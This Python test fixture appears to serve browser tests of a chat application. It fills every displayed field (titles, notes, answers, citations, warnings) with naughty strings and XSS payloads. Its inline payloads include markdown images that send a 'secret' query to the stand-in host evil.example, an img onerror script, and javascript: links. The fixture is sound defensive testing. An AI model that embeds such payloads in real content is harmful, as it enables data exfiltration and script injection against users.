"""Services that show nothing but attacks: questions, titles, notes, answers, reasons."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

from coach.domain.answers import Answer, AnswerKind, Check, Citation, Segment
from coach.domain.conversation import Conversation, TurnState
from coach.domain.notes import Playbook, Section
from tests.browser.stage import NOTE, StagedServices
from tests.fakes import ME

DATA = Path(__file__).resolve().parents[1] / "data"
BATCH = 170  # attacks on one page


def _attacks() -> list[str]:
    lines = json.loads((DATA / "naughty_strings" / "blns.json").read_text(encoding="utf-8"))
    for file in sorted((DATA / "xss").glob("*.txt")):
        lines += file.read_text(encoding="utf-8").splitlines()
    pictures = [
        "![x](http://evil.example/?q=secret)",
        "![x][y]\n\n[y]: http://evil.example/p.png",
        '<img src="http://evil.example/i.png" onerror="alert(1)">',
        "[go](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>)",
        ':material/home: $\\href{javascript:alert(1)}{x}$ :red[x]{foreground="red"}',
    ]
    return [line for line in pictures + lines if line.strip()]


ATTACKS = _attacks()


class HostileServices(StagedServices):
    """Everything that is shown is an attack: questions, titles, notes, answers, reasons."""

    def __init__(self) -> None:
        super().__init__()
        batches = [ATTACKS[i : i + BATCH] for i in range(0, len(ATTACKS), BATCH)]
        for number, batch in enumerate(batches):
            self._store(f"hostile-{number}", batch)
        text = "\n\n".join(ATTACKS)
        sections = (Section("In short", text, 0, len(text)),)
        note = replace(NOTE, title=ATTACKS[0], summary=ATTACKS[1], sections=sections)
        self.playbook = Playbook(notes=(note,), sources=())

    def _store(self, name: str, batch: list[str]) -> None:
        now = self.conversations.clock.now()
        title = batch[0]
        self.conversations.threads[name] = (ME, Conversation(name, title, now, now))
        turn = self.conversations.add_turn(ME, name, "\n".join(batch), None, None)
        segments = [
            Segment(f"{text}\n\n", list(Check)[i % 4], text) for i, text in enumerate(batch)
        ]
        cited = [
            Citation(n, NOTE.id, text, "In short", text, text)
            for n, text in enumerate(batch[:3], 1)
        ]
        answer = Answer(
            AnswerKind.ANSWER,
            "\n\n".join(batch),
            tuple(segments),
            tuple(cited),
            mode="model",
            model=title,
            follow_ups=tuple(batch[:3]),
            warnings=tuple(batch),
        )
        self.conversations.claim(turn.id, "w", now + timedelta(days=1))
        self.conversations.finish(turn.id, "w", TurnState.DONE, answer, batch[-1])
